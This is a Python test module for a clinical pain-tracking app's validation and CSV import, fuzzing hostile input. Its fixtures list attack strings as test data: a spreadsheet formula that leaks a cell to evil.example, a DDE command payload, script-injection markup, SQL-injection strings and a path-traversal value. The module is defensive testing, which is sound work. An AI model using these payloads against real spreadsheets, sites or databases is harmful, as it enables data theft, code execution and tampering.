"""Hostile input: validation that never raises, CSV files that are malformed, cut short, in the wrong
encoding, huge, or full of formulas, markup and SQL: stored as the plain text given, or refused with
the place of every problem, and never a partial write.

Decision on spreadsheet formulas (=, +, -, @ at the start of a cell): the import stores them as the
plain text given (test_formulas_markup_and_sql_in_names_and_notes_are_stored_as_plain_text); PainTrail
never evaluates them. Making them inert is the job of every output a spreadsheet may open:
- `paintrail export csv` and the app's CSV downloads prefix such cells with an apostrophe
  (data_model.exporters.csv_export.neutralise, tested in tests/integration/test_csv_export.py);
- the worklist CSV (`paintrail flags --format csv`) carries no text typed by users: MRNs cannot start
  with those characters and reasons are generated (test_the_flags_csv_carries_no_formula_from_imported_text).

Hypothesis runs derandomized (the same examples every run) with no example database, so CI is stable.
"""

from __future__ import annotations

import csv
import io
import itertools
import math
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, event, given, settings, strategies as st
from sqlalchemy import func, select

from data_model import commands
from data_model.audit import set_actor
from data_model.catalog import PROCEDURE_CODES, SEXES, TREATMENT_CODES
from data_model.db import read_session, write_session
from data_model.importers import CsvImportFailed, import_csv_folder
from data_model.importers.csv_import import SPECS
from data_model.models import AuditEntry, Patient, Surgery, Treatment, Visit
from data_model.validation import (
    CONTROL_CHARS,
    EARLIEST_DATE,
    MAX_MME_PER_DAY,
    MAX_NOTE_LENGTH,
    MEASUREMENTS,
    MRN_PATTERN,
    FieldError,
    Fields,
    check_patient,
    check_surgery,
    check_treatment,
    check_visit,
)

TODAY = date(2026, 6, 1)
PURE = settings(max_examples=300, derandomize=True, database=None, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
ROUND_TRIP = settings(max_examples=30, derandomize=True, database=None, deadline=None,
                      suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                             HealthCheck.data_too_large])
TABLES = {"patients": Patient, "surgeries": Surgery, "visits": Visit, "treatments": Treatment, "audit": AuditEntry}
SURROGATES = re.compile("[\ud800-\udfff]")

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "=1+1", "\t=1+1"]
MARKUP = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "**bold** [x](javascript:alert(1))",
          "</textarea><svg onload=alert(1)>", "{{7*7}} ${7*7} %s %n"]
SQL = ["1; DROP TABLE patients;--", "' OR 1=1 --", "Robert'); DROP TABLE patients;--", "1' UNION SELECT * FROM users--",
       '"; DELETE FROM visits; --']
ODD = ["", " ", "\t", "\u00a0", "\ufeff", "\u200b", "\u202egnp.exe", "NaN", "nan", "inf", "-inf", "1e400", "-0",
       "١٠", "5_0", "0x10", " 5 ", "5,5", "1e-400", "Ω≈ç√∫", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "😀" * 50, "a\x00b", "line\nbreak",
       "cr\rreturn", "\x1b[31mred", "\x7f", "\x85next line", "\u2028sep", "2026-02-30", "2026-13-01", "20260101",
       "2026-W05-1", "9999-12-31", "0001-01-01", "1899-12-31", "true", "yes", "0.0", "1.0", "10.0000001", "100.5"]
HOSTILE_STRINGS = FORMULAS + MARKUP + SQL + ODD


# --- strategies ------------------------------------------------------------------------------------------------

huge_text = st.builds(lambda ch, n: ch * n, st.sampled_from(["x", "é", "9", " ", "😀", "\x00", ","]),
                      st.sampled_from([65, 121, 201, 4001, 100_000, 1_000_000]))
surrogate_text = st.builds(lambda a, s, b: a + s + b, st.text(max_size=5),
                           st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), st.text(max_size=5))
any_text = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_STRINGS), huge_text, surrogate_text,
                     st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=5))
numberish = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(min_value=-1, max_value=110).map(lambda x: f" {x:g} "),
)
any_value = st.one_of(
    st.none(), any_text, numberish,
    st.integers(min_value=-(10**400), max_value=10**400),  # far past what a float holds
    st.floats(allow_nan=True, allow_infinity=True), st.booleans(),
    st.dates(min_value=date(1, 1, 1)), st.datetimes(), st.decimals(allow_nan=True), st.binary(max_size=8),
    st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=2), st.integers(), max_size=1),
)

VISIT_FIELDS = ("visit_date", *MEASUREMENTS, "notes")
PATIENT_FIELDS = ("mrn", "display_name", "birth_year", "sex")
SURGERY_FIELDS = ("surgery_date", "procedure", "spinal_levels", "surgeon", "notes")
TREATMENT_FIELDS = ("treatment", "start_date", "end_date", "notes")


def records(fields: tuple[str, ...]) -> st.SearchStrategy[dict]:
    """Any dict over the record's fields (some missing) and a few keys no form sends."""
    keys = st.sampled_from((*fields, "extra", "", "MRN", "id", "__class__"))
    return st.dictionaries(keys, any_value, max_size=len(fields) + 2)


# --- validation: never raises, errors name the field, accepted values are in range ----------------------------


def _clean_text(value, limit: int) -> None:
    assert value is None or (
        isinstance(value, str) and value == value.strip() and 0 < len(value) <= limit
        and not CONTROL_CHARS.search(value) and not SURROGATES.search(value)
    ), repr(value)[:80]


def _in_range(value, low: float, high: float) -> None:
    assert value is None or (isinstance(value, float) and math.isfinite(value) and low <= value <= high), value


def _in_dates(value, allow_none: bool = False) -> None:
    if value is None and allow_none:
        return
    assert isinstance(value, date) and not isinstance(value, datetime) and EARLIEST_DATE <= value <= TODAY, value


def _check_errors(raw: dict, errors: list[FieldError], fields: tuple[str, ...]) -> None:
    for error in errors:
        assert isinstance(error, FieldError)
        assert error.field in fields or error.field == "measurements", error.field
        if error.field == "measurements":
            assert all(raw.get(m) is None or str(raw.get(m)).strip() == "" or raw.get(m) != raw.get(m)
                       for m in MEASUREMENTS if m in raw)
        elif error.field not in raw:
            assert error.message == "is required", error  # a missing field can only be a required one
        else:
            assert error.value is raw[error.field]  # the error shows what was given
        assert error.message and str(error)  # printable


@PURE
@given(raw=records(VISIT_FIELDS))
def test_check_visit_never_raises_and_accepts_only_values_in_range(raw):
    value, errors = check_visit(raw, TODAY)

    assert (value is None) == bool(errors)
    _check_errors(raw, errors, VISIT_FIELDS)
    if value is not None:
        _in_dates(value.visit_date)
        for name in ("back_pain", "leg_pain"):
            _in_range(getattr(value, name), 0, 10)
        _in_range(value.odi, 0, 100)
        _in_range(value.mme_per_day, 0, MAX_MME_PER_DAY)
        assert all(getattr(value, f) in (None, True, False) for f in ("numbness", "tingling", "weakness"))
        assert any(getattr(value, m) is not None for m in MEASUREMENTS)
        _clean_text(value.notes, MAX_NOTE_LENGTH)


@PURE
@given(raw=records(PATIENT_FIELDS))
def test_check_patient_never_raises_and_accepts_only_values_in_range(raw):
    value, errors = check_patient(raw, TODAY)

    assert (value is None) == bool(errors)
    _check_errors(raw, errors, PATIENT_FIELDS)
    if value is not None:
        assert MRN_PATTERN.match(value.mrn) and value.mrn == str(raw["mrn"]).strip()
        _clean_text(value.display_name, 200)
        assert value.birth_year is None or (isinstance(value.birth_year, int) and 1900 <= value.birth_year <= TODAY.year)
        assert value.sex in SEXES


@PURE
@given(raw=records(SURGERY_FIELDS))
def test_check_surgery_never_raises_and_accepts_only_values_in_range(raw):
    value, errors = check_surgery(raw, TODAY)

    assert (value is None) == bool(errors)
    _check_errors(raw, errors, SURGERY_FIELDS)
    if value is not None:
        _in_dates(value.surgery_date)
        assert value.procedure in PROCEDURE_CODES
        _clean_text(value.spinal_levels, 64)
        _clean_text(value.surgeon, 120)
        _clean_text(value.notes, MAX_NOTE_LENGTH)


@PURE
@given(raw=records(TREATMENT_FIELDS))
def test_check_treatment_never_raises_and_accepts_only_values_in_range(raw):
    value, errors = check_treatment(raw, TODAY)

    assert (value is None) == bool(errors)
    _check_errors(raw, errors, TREATMENT_FIELDS)
    if value is not None:
        assert value.code in TREATMENT_CODES
        _in_dates(value.start_date)
        _in_dates(value.end_date, allow_none=True)
        assert value.end_date is None or value.end_date >= value.start_date
        _clean_text(value.notes, MAX_NOTE_LENGTH)


@PURE
@given(
    back=st.floats(0, 10), leg=st.integers(0, 10), odi=st.floats(0, 100), mme=st.floats(0, MAX_MME_PER_DAY),
    when=st.dates(EARLIEST_DATE, TODAY), flag=st.sampled_from(["0", "1", " 1 ", "true", "no", 0, 1, True, False]),
    notes=st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc")), max_size=MAX_NOTE_LENGTH),
    spaced=st.booleans(),
)
def test_every_value_in_range_is_accepted_as_given_whether_typed_as_text_or_number(
    back, leg, odi, mme, when, flag, notes, spaced
):
    pad = (lambda s: f"  {s}\t") if spaced else str
    raw = {"visit_date": pad(when.isoformat()), "back_pain": pad(repr(back)), "leg_pain": leg, "odi": pad(odi),
           "mme_per_day": mme, "numbness": flag, "notes": notes}

    value, errors = check_visit(raw, TODAY)

    assert errors == []
    assert (value.visit_date, value.back_pain, value.leg_pain, value.odi, value.mme_per_day) == (when, back, leg, odi, mme)
    assert value.numbness == (str(flag).strip().lower() in ("1", "true", "yes"))
    assert value.notes == (notes.strip() or None)


@pytest.mark.parametrize("text", ["5_0", "1_000", "_5", "٥", "१०", "5\u00a0", "1e1"])
def test_numbers_are_decimal_numbers_as_a_person_types_them(text):
    """float() also reads '5_0' as 50 (Python's digit separators); a clinic's file never means that."""
    value, errors = check_visit({"visit_date": "2026-01-02", "odi": text}, TODAY)
    if "_" in text:
        assert [(e.field, e.message) for e in errors] == [("odi", "is not a number")]
    else:  # other digits, a no-break space, an exponent: a real number, read as such
        assert errors == [] and value.odi == float(text)


# --- commands: what validation accepts, the database stores and reads back exactly -----------------------------


@pytest.mark.postgres
@ROUND_TRIP
@given(name=any_text, notes=any_text, surgeon=any_text)
def test_any_accepted_text_is_stored_and_read_back_exactly(engine, name, notes, surgeon):
    with pytest.raises(_Rollback):
        with write_session(engine) as session:
            set_actor(session, "fuzz")
            try:
                patient = commands.register_patient(session, {"mrn": "FUZZ1", "display_name": name})
                surgery = commands.add_surgery(
                    session, patient.id, {"surgery_date": "2025-01-02", "procedure": "fusion", "surgeon": surgeon,
                                          "notes": notes}, TODAY)
                visit = commands.add_visit(session, patient.id, {"visit_date": "2025-02-03", "odi": 40, "notes": notes},
                                           TODAY)
            except commands.ValidationFailed as refused:
                event("refused")
                assert refused.errors  # refused with reasons, before anything reached the database
                raise _Rollback from None
            ids = patient.id, surgery.id, visit.id
            session.expire_all()  # read back from the database, not the session's copies
            stored = (session.get(Patient, ids[0]).display_name, session.get(Surgery, ids[1]).surgeon,
                      session.get(Surgery, ids[1]).notes, session.get(Visit, ids[2]).notes)
            assert stored == (_stripped(name), _stripped(surgeon), _stripped(notes), _stripped(notes))
            event("stored")
            raise _Rollback  # leave the database as it was for the next example
    with read_session(engine) as s:
        assert s.scalar(select(func.count(Patient.id))) == 0


class _Rollback(Exception):
    pass


def _stripped(text: str) -> str | None:
    return text.strip() or None


# --- CSV import: helpers ---------------------------------------------------------------------------------------

_examples = itertools.count()


def counts(engine) -> dict[str, int]:
    with read_session(engine) as s:
        return {name: s.scalar(select(func.count()).select_from(model)) for name, model in TABLES.items()}


def write_folder(root: Path, files: dict[str, bytes | str]) -> Path:
    folder = root / f"upload{next(_examples)}"
    folder.mkdir(parents=True)
    for name, content in files.items():
        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return folder


def csv_text(rows: list[list[str]], newline: str = "\n") -> str:
    out = io.StringIO()
    # A cell holding a line break is quoted only when the break is in the line terminator: with "\n"
    # rows, quote every cell so a lone "\r" in a cell stays inside it (as any spreadsheet writes it).
    csv.writer(out, lineterminator=newline, quoting=csv.QUOTE_MINIMAL if newline == "\r\n" else csv.QUOTE_ALL
               ).writerows(rows)
    return out.getvalue()


def import_outcome(engine, folder: Path) -> tuple[bool, list, dict[str, int]]:
    """(ok, problems, counts before): asserts the all-or-nothing half of every hostile-input property."""
    before = counts(engine)
    try:
        report = import_csv_folder(engine, folder, "fuzz", TODAY)
    except CsvImportFailed as failure:
        assert counts(engine) == before, "a failed import wrote something"
        problems = failure.report.problems
        assert problems and failure.report.format().startswith("Nothing was imported")
        return False, problems, before
    added = {name: n - before[name] for name, n in counts(engine).items()}
    expected = {"patients": 0, "surgeries": 0, "visits": 0, "treatments": 0}
    for name, n in report.counts.items():
        expected[name.removesuffix(".csv")] = n
    expected["audit"] = sum(report.counts.values()) + 1
    assert added == expected, "a successful import wrote other rows than the files hold"
    return True, [], before


def assert_placed(problems, folder: Path, lines: dict[str, int]) -> None:
    """Every problem names a file of the folder; a row or cell problem its line (and a known column)."""
    for p in problems:
        assert p.file in {f.name for f in folder.iterdir()}, p
        assert p.line is None or 1 <= p.line <= lines[p.file] + 1, p
        if p.line is None:
            assert "is empty" in p.message or "holds none" in p.message, p
        if p.column is not None:
            assert p.column in SPECS[p.file].columns or p.line == 1, p
        assert str(p) and len(str(p)) < 400, "the report shows a value cut short, not a megabyte"


# --- CSV import: generated folders of hostile cells ------------------------------------------------------------

mrn_cell = st.one_of(st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9._/-]{0,8}\Z"), st.sampled_from(SQL + FORMULAS + ODD[:8]))
text_cell = st.one_of(st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30),
                      st.sampled_from(HOSTILE_STRINGS).filter(lambda s: not SURROGATES.search(s)),
                      st.builds(lambda n: "n" * n, st.sampled_from([199, 201, 3999, 4001])))
number_cell = st.one_of(st.sampled_from(["", "0", "10", "6.5", "11", "-1", "abc", "NaN", "1e400", "5_0", " 7 "]),
                        st.floats(0, 10).map(lambda x: f"{x:.1f}"))
date_cell = st.one_of(st.dates(date(2024, 1, 1), TODAY).map(date.isoformat),
                      st.sampled_from(["", "2026-02-30", "01/02/2026", "2099-01-01", "1850-01-01", "yesterday"]))


@st.composite
def hostile_folder(draw):
    """(patients rows, visits rows): MRNs from the patients, or not; every cell possibly hostile."""
    patients = draw(st.lists(st.tuples(mrn_cell, text_cell, st.sampled_from(["", "1960", "1850", "x"]),
                                       st.sampled_from(["female", "male", "MALE", "", "robot"])), min_size=1, max_size=4))
    known = [p[0] for p in patients]
    visits = draw(st.lists(
        st.tuples(st.one_of(st.sampled_from(known), mrn_cell), date_cell, number_cell, number_cell,
                  st.sampled_from(["", "40", "101"]), st.sampled_from(["", "0", "1", "2"]), text_cell),
        max_size=5))
    return patients, visits


def _tagged(mrn: str, tag: str) -> str:
    # Valid MRNs get a per-example prefix so examples never collide in the shared database.
    return tag + mrn.strip() if MRN_PATTERN.match(mrn.strip()) and len(tag + mrn.strip()) <= 64 else mrn


def _expected_failure(patients: list[list[str]], visits: list[list[str]]) -> set[tuple[str, int]]:
    """(file, line) of every row the importer must refuse, worked out independently of it."""
    bad: set[tuple[str, int]] = set()
    seen: set[str] = set()
    for line, (mrn, name, year, sex) in enumerate(patients, start=2):
        _, errors = check_patient({"mrn": mrn, "display_name": name, "birth_year": year, "sex": sex}, TODAY)
        if errors or mrn.strip() in seen:
            bad.add(("patients.csv", line))
        seen.add(mrn.strip())
    for line, (mrn, when, back, leg, odi, numb, notes) in enumerate(visits, start=2):
        row = {"mrn": mrn, "visit_date": when, "back_pain": back, "leg_pain": leg, "odi": odi, "numbness": numb,
               "notes": notes}
        if all(str(v).strip() == "" for v in row.values()):
            continue
        fields = Fields(row, TODAY)
        fields.mrn()
        if check_visit(row, TODAY)[1] or fields.errors or mrn.strip() not in seen:
            bad.add(("visits.csv", line))
    return bad


@pytest.mark.postgres
@ROUND_TRIP
@given(data=hostile_folder(), newline=st.sampled_from(["\n", "\r\n"]), bom=st.booleans())
def test_hostile_cells_are_stored_as_the_text_given_or_refused_with_their_place(engine, tmp_path, data, newline, bom):
    tag = f"T{next(_examples)}-"
    # Rows of nothing but blanks are skipped by design (spreadsheets leave them): leave them out here.
    patients = [[_tagged(m, tag), *rest] for m, *rest in data[0] if any(c.strip() for c in (m, *rest))]
    visits = [[_tagged(m, tag), *rest] for m, *rest in data[1] if any(c.strip() for c in (m, *rest))]
    assume(patients)
    files = {"patients.csv": csv_text([["mrn", "display_name", "birth_year", "sex"], *patients], newline)}
    if visits:
        files["visits.csv"] = csv_text(
            [["mrn", "visit_date", "back_pain", "leg_pain", "odi", "numbness", "notes"], *visits], newline)
    folder = write_folder(tmp_path, {k: ("\ufeff" if bom else "") + v for k, v in files.items()})
    must_refuse = _expected_failure(patients, visits)

    ok, problems, _ = import_outcome(engine, folder)

    event("imported" if ok else "refused")
    if not ok:
        assert_placed(problems, folder, {"patients.csv": len(patients) + 1, "visits.csv": len(visits) + 1})
        assert {(p.file, p.line) for p in problems} == must_refuse
        return
    assert must_refuse == set()
    with read_session(engine) as s:
        for mrn, name, year, sex in patients:
            stored = s.scalar(select(Patient).where(Patient.mrn == mrn.strip()))
            assert (stored.display_name, stored.sex) == (_stripped(name), sex.strip().lower() or "unknown")
            assert stored.source == "csv"
        for mrn, when, _back, _leg, _odi, _numb, notes in visits:
            pid = s.scalar(select(Patient.id).where(Patient.mrn == mrn.strip()))
            stored_notes = s.scalars(select(Visit.notes).where(Visit.patient_id == pid,
                                                                Visit.visit_date == date.fromisoformat(when.strip())))
            assert _stripped(notes) in list(stored_notes)


# --- CSV import: files cut short at any byte -------------------------------------------------------------------

GOOD_PATIENTS = csv_text([["mrn", "display_name", "birth_year", "sex"],
                          ["CUT-1", "Zoë Ångström, Jr.", "1961", "female"],
                          ["CUT-2", 'Nuño "Ñ" Peña', "1970", "male"],
                          ["CUT-3", "李小龍 😀", "", ""]])
GOOD_VISITS = csv_text(
    [["mrn", "visit_date", "back_pain", "leg_pain", "odi", "numbness", "tingling", "weakness", "mme_per_day", "notes"]]
    + [[f"CUT-{1 + i % 3}", f"2026-0{1 + i % 5}-1{i % 9}", f"{i % 11}", f"{(i * 7) % 11}.5"[:3], f"{i * 3}", "1", "0", "",
        f"{i * 5}", "long note, with a comma\nand a line break é😀" if i % 4 == 0 else ""] for i in range(12)]
)


@pytest.mark.postgres
@ROUND_TRIP
@given(which=st.sampled_from(["patients.csv", "visits.csv"]), cut=st.floats(0, 1, exclude_max=True))
def test_a_file_cut_short_at_any_byte_imports_what_it_holds_or_nothing(engine, tmp_path, which, cut):
    tag = f"C{next(_examples)}"
    content = {"patients.csv": GOOD_PATIENTS.replace("CUT-", tag + "-").encode("utf-8"),
               "visits.csv": GOOD_VISITS.replace("CUT-", tag + "-").encode("utf-8")}
    content[which] = content[which][: int(len(content[which]) * cut)]
    folder = write_folder(tmp_path, content)

    ok, problems, _ = import_outcome(engine, folder)

    event("imported" if ok else "refused")
    lines = {name: data.count(b"\n") + 2 for name, data in content.items()}
    if not ok:
        assert_placed(problems, folder, lines)
        return
    # What was imported is exactly what the cut file holds, row for row.
    text = content[which].decode("utf-8-sig")
    rows = [r for r in list(csv.reader(io.StringIO(text, newline="")))[1:] if any(c.strip() for c in r)]
    with read_session(engine) as s:
        if which == "visits.csv":
            stored = s.scalars(select(Visit.notes).join(Patient).where(Patient.mrn.like(f"{tag}-%")).order_by(Visit.id))
            assert list(stored) == [_stripped(r[-1]) for r in rows]
        else:
            stored = s.scalars(select(Patient.display_name).where(Patient.mrn.like(f"{tag}-%")).order_by(Patient.id))
            assert list(stored) == [_stripped(r[1]) for r in rows]


# --- CSV import: malformed files -------------------------------------------------------------------------------

VISIT_HEADER = "mrn,visit_date,back_pain,notes\n"
ONE_PATIENT = "mrn,display_name\nM1,Malformed\n"


@pytest.mark.parametrize(
    ("files", "place", "message"),
    [
        ({"visits.csv": VISIT_HEADER + 'M1,2026-01-05,5,"never closed\nM1,2026-01-06,5,x\n'},
         ("visits.csv", 2), "cannot be read as CSV"),
        ({"visits.csv": VISIT_HEADER + 'M1,2026-01-05,5,"a"b"\n'}, ("visits.csv", 2), "cannot be read as CSV"),
        ({"visits.csv": VISIT_HEADER + "M1,2026-01-05,5,x,extra\n"}, ("visits.csv", 2), "has 5 cells but the header has 4"),
        ({"visits.csv": VISIT_HEADER + "M1,2026-01-05\n"}, ("visits.csv", 2), "has 2 cells but the header has 4"),
        ({"visits.csv": "mrn,visit_date,mrn,back_pain\nM1,2026-01-05,M1,5\n"}, ("visits.csv", 1), "appears twice"),
        ({"visits.csv": "mrn,,back_pain\nM1,,5\n"}, ("visits.csv", 1), "has no name"),
        ({"visits.csv": "mrn,back_pain\nM1,5\n"}, ("visits.csv", 1), "required column"),
        ({"visits.csv": "\ufeff"}, ("visits.csv", None), "is empty"),
        ({"visits.csv": "\n\n  \n"}, ("visits.csv", None), "is empty"),
        ({"visits.csv": bytes(range(256))}, ("visits.csv", 2), "is not UTF-8 text (byte 0x80)"),  # 0x0A before 0x80
        ({"visit.csv": VISIT_HEADER}, ("visit.csv", None), "is not a file this import reads"),
    ],
    ids=["unclosed-quote", "stray-quote", "extra-cell", "missing-cells", "duplicate-column", "unnamed-column",
         "missing-required-column", "only-a-bom", "only-blank-lines", "binary", "misnamed-file"],
)
def test_a_malformed_file_is_refused_with_its_place_and_nothing_is_written(sqlite_engine, tmp_path, files, place, message):
    folder = write_folder(tmp_path, {"patients.csv": ONE_PATIENT, **files})

    ok, problems, _ = import_outcome(sqlite_engine, folder)

    assert not ok
    assert any((p.file, p.line) == place and message in p.message for p in problems), [str(p) for p in problems]
    for p in problems:  # whole-file problems have no line; the rest say where
        assert p.file in files and (p.line is not None or "is empty" in p.message or "reads" in p.message), p


@settings(max_examples=150, derandomize=True, database=None, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(junk=st.binary(max_size=300), header=st.booleans())
def test_arbitrary_bytes_as_a_csv_file_never_break_the_import(sqlite_engine, tmp_path, junk, header):
    content = (VISIT_HEADER.encode() if header else b"") + junk
    folder = write_folder(tmp_path, {"patients.csv": ONE_PATIENT.replace("M1", f"J{next(_examples)}"),
                                     "visits.csv": content})

    ok, problems, _ = import_outcome(sqlite_engine, folder)

    event("imported" if ok else "refused")
    if not ok:
        assert_placed(problems, folder, {"patients.csv": 2, "visits.csv": content.count(b"\n") + content.count(b"\r") + 2})


# --- CSV import: encodings, huge cells and files, formulas, markup, SQL ----------------------------------------

PATIENT_HEADER = "mrn,display_name,birth_year,sex\n"


# Refused while reading the files, before the database is asked anything: SQLite is enough here
# (the generated-folder properties above run on both databases).
@pytest.mark.parametrize(
    ("encode", "place", "message"),
    [
        (lambda t: t.encode("latin-1"), ("patients.csv", 3), "is not UTF-8 text (byte 0xFC)"),
        (lambda t: t.encode("utf-16"), ("patients.csv", 1), "is not UTF-8 text (byte 0xFF)"),
        # Without a BOM, UTF-16 ASCII is "valid UTF-8" with NULs in it, up to the first non-ASCII letter.
        (lambda t: t.encode("utf-16-le"), ("patients.csv", 3), "is not UTF-8 text (byte 0xFC)"),
        (lambda t: t.encode("cp1252").replace(b"Ada", b"\x93Ada\x94"), ("patients.csv", 2), "is not UTF-8 text (byte 0x93)"),
        (lambda t: t.encode("utf-8").replace(b"Ada", b"A\xed\xa0\x80a"), ("patients.csv", 2), "is not UTF-8 text"),
        (lambda t: t.encode("utf-8").replace(b"Ada", b"A\x00a"), ("patients.csv", 2), "contains control characters"),
    ],
    ids=["latin-1", "utf-16-bom", "utf-16-no-bom", "cp1252-quotes", "encoded-surrogate", "nul-byte"],
)
def test_a_file_in_another_encoding_is_refused_with_its_line_and_nothing_is_written(
    sqlite_engine, tmp_path, encode, place, message
):
    text = PATIENT_HEADER + "E1,Ada Lovelace,1960,female\nE2,Jürgen Müller,1955,male\n"
    folder = write_folder(tmp_path, {"patients.csv": encode(text)})

    ok, problems, _ = import_outcome(sqlite_engine, folder)

    assert not ok
    assert [(p.file, p.line) for p in problems] == [place]
    assert message in problems[0].message


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_utf8_with_a_byte_order_mark_imports_exactly(sqlite_engine, tmp_path, newline):
    engine = sqlite_engine
    text = (PATIENT_HEADER + "B1,Jürgen Müller,1955,male\nB2,Zoë 😀,,\n").replace("\n", newline)
    folder = write_folder(tmp_path, {"patients.csv": b"\xef\xbb\xbf" + text.encode("utf-8")})

    ok, _, _ = import_outcome(engine, folder)

    assert ok
    with read_session(engine) as s:
        assert s.execute(select(Patient.mrn, Patient.display_name).order_by(Patient.mrn)).all() == [
            ("B1", "Jürgen Müller"), ("B2", "Zoë 😀")]


@pytest.mark.parametrize(
    ("column", "size", "message"),
    [
        ("notes", 100_000, "is longer than 4000 characters"),
        ("notes", 1_000_000, "cannot be read as CSV"),
        ("mrn", 1_000_000, "cannot be read as CSV"),
        ("mrn", 100_000, "is longer than 64 characters"),
    ],
)
def test_a_huge_cell_is_refused_with_its_place_and_a_short_report(sqlite_engine, tmp_path, column, size, message):
    engine = sqlite_engine
    cells = {"mrn": "H1", "visit_date": "2026-01-05", "back_pain": "5", "notes": "ok"}
    cells[column] = "A" * size
    visits = "mrn,visit_date,back_pain,notes\n" + ",".join(cells.values()) + "\n"
    folder = write_folder(tmp_path, {"patients.csv": PATIENT_HEADER + "H1,Huge Cell,,\n", "visits.csv": visits})

    ok, problems, _ = import_outcome(engine, folder)

    assert not ok
    assert_placed(problems, folder, {"patients.csv": 2, "visits.csv": 2})
    assert any(p.file == "visits.csv" and p.line == 2 and message in p.message for p in problems), problems
    assert len(str(problems[0])) < 400


def test_a_50000_row_file_with_one_bad_row_at_the_end_is_refused_whole(sqlite_engine, tmp_path):
    rows = [f"BIG{i % 500},2026-0{1 + i % 5}-{1 + i % 28:02d},{i % 11},{(i * 3) % 11},,,,,," for i in range(49_999)]
    rows.append("BIG7,2026-03-03,11,5,,,,,,")  # line 50001: back pain 11
    visits = "mrn,visit_date,back_pain,leg_pain,odi,numbness,tingling,weakness,mme_per_day,notes\n" + "\n".join(rows) + "\n"
    patients = PATIENT_HEADER + "".join(f"BIG{i},Patient {i},,\n" for i in range(500))
    folder = write_folder(tmp_path, {"patients.csv": patients, "visits.csv": visits})

    ok, problems, _ = import_outcome(sqlite_engine, folder)

    assert not ok
    assert [(p.file, p.line, p.column, p.value) for p in problems] == [("visits.csv", 50_001, "back_pain", "11")]


@pytest.mark.postgres
def test_formulas_markup_and_sql_in_names_and_notes_are_stored_as_plain_text(engine, tmp_path):
    names = FORMULAS[:5] + MARKUP + SQL
    patients = [["mrn", "display_name", "birth_year", "sex"]] + [[f"X{i}", n, "", ""] for i, n in enumerate(names)]
    visits = [["mrn", "visit_date", "back_pain", "notes"]] + [
        [f"X{i % len(names)}", "2026-01-05", "5", note] for i, note in enumerate(FORMULAS + MARKUP + SQL)]
    surgeries = [["mrn", "surgery_date", "procedure", "surgeon", "notes"],
                 ["X0", "2025-06-01", "fusion", "=cmd()", "<b>x</b>"]]
    folder = write_folder(tmp_path, {"patients.csv": csv_text(patients), "visits.csv": csv_text(visits),
                                     "surgeries.csv": csv_text(surgeries)})

    ok, _, _ = import_outcome(engine, folder)

    assert ok
    with read_session(engine) as s:
        stored = dict(s.execute(select(Patient.mrn, Patient.display_name)).all())
        assert stored == {f"X{i}": n.strip() for i, n in enumerate(names)}
        notes = s.scalars(select(Visit.notes).order_by(Visit.id)).all()
        assert notes == [n.strip() for n in FORMULAS + MARKUP + SQL]
        assert s.execute(select(Surgery.surgeon, Surgery.notes)).one() == ("=cmd()", "<b>x</b>")
        assert s.scalar(select(func.count(Patient.id))) == len(names), "the patients table is all there"


BAD_MRNS = [*SQL, *FORMULAS[:5], " ", "<script>", "A" * 65, "ÄÖ1", "A1\u200b", "A 1", "A1;", "../etc/passwd", "%27"]


@pytest.mark.postgres
def test_an_mrn_that_is_not_an_identifier_is_refused_with_file_line_and_column(engine, tmp_path):
    rows = [["mrn", "display_name"], ["OK1", "Fine"], [" OK2\t", "Trimmed is fine"]]
    rows += [[mrn, f"Bad {n}"] for n, mrn in enumerate(BAD_MRNS)]
    folder = write_folder(tmp_path, {"patients.csv": csv_text(rows)})

    ok, problems, _ = import_outcome(engine, folder)

    assert not ok
    assert [(p.file, p.line, p.column, p.value) for p in problems] == [
        ("patients.csv", line, "mrn", mrn) for line, mrn in enumerate(BAD_MRNS, start=4)]
    with read_session(engine) as s:
        assert s.scalar(select(func.count(Patient.id))) == 0
    good = write_folder(tmp_path, {"patients.csv": csv_text(rows[:3])})
    assert import_outcome(engine, good)[0]
    with read_session(engine) as s:
        assert s.scalars(select(Patient.mrn).order_by(Patient.mrn)).all() == ["OK1", "OK2"]


def test_the_flags_csv_carries_no_formula_from_imported_text(sqlite_engine, tmp_path):
    """Names and notes are not in the worklist CSV; MRNs cannot start with = + - @, so no cell can."""
    from typer.testing import CliRunner

    from dashboard.cli import app

    patients = [["mrn", "display_name"], *[[f"F{i}", f] for i, f in enumerate(FORMULAS)]]
    surgeries = [["mrn", "surgery_date", "procedure", "surgeon", "notes"],
                 *[[f"F{i}", "2025-01-06", "fusion", f, f] for i, f in enumerate(FORMULAS)]]
    visits = [["mrn", "visit_date", "back_pain", "leg_pain", "notes"],
              *[[f"F{i}", "2026-05-01", "8", "8", f] for i, f in enumerate(FORMULAS)]]
    folder = write_folder(tmp_path, {"patients.csv": csv_text(patients), "surgeries.csv": csv_text(surgeries),
                                     "visits.csv": csv_text(visits)})
    import_csv_folder(sqlite_engine, folder, "fuzz", TODAY)

    result = CliRunner().invoke(app, ["flags", "--as-of", TODAY.isoformat(), "--format", "csv",
                                      "--db", f"sqlite:///{sqlite_engine.url.database}"])

    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > 1, "patients are flagged (pain 8 long after a fusion)"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row), rows
